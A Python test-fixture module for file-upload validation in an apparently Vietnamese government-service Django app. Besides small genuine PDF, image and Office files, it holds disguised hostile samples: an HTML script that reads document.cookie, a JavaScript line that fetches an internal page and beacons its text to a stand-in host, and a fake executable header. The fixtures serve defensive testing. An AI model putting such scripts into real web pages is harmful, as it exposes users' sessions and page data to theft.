"""File contents for upload tests: small genuine PDF, JPEG, PNG, DOCX and XLSX, and disguised scripts."""

import io
import zipfile

from django.core.files.uploadedfile import SimpleUploadedFile

from motcua.files.checks import DOCX, XLSX

PDF = b"%PDF-1.7\n1 0 obj <</Type /Catalog>> endobj\ntrailer <</Root 1 0 R>>\n%%EOF\n"
JPEG = b"\xff\xd8\xff\xe0\x00\x10JFIF\x00\x01\x01\x00\x00\x01\x00\x01\x00\x00" + bytes(64) + b"\xff\xd9"


PNG = b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR\x00\x00\x00\x01\x00\x00\x00\x01\x08\x02\x00\x00\x00" + bytes(32)


HTML = b"<!DOCTYPE html><html><body><script>alert(document.cookie)</script></body></html>"


SCRIPT = b"fetch('/mot-cua/').then(r => r.text()).then(t => navigator.sendBeacon('//x', t))"


EXE = (
    b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff\x00\x00"
    + bytes(64)
    + b"This program cannot be run in DOS mode"
)


def office(kind=DOCX, *, main_type=None, extra: dict | None = None) -> bytes:
    """A minimal DOCX or XLSX: [Content_Types].xml declaring its main part, and that part."""
    main_type = main_type or kind.main_type
    types = (
        '<?xml version="1.0" encoding="UTF-8"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/'
        f'content-types"><Override PartName="/{kind.main_part}" ContentType="{main_type}"/></Types>'
    )
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("[Content_Types].xml", types)
        archive.writestr(kind.main_part, "<document>Tờ khai</document>")
        for name, data in (extra or {}).items():
            archive.writestr(name, data)
    return buffer.getvalue()


DOCX_BYTES = office(DOCX)


XLSX_BYTES = office(XLSX)


def upload(name: str, content: bytes) -> SimpleUploadedFile:
    return SimpleUploadedFile(name, content)
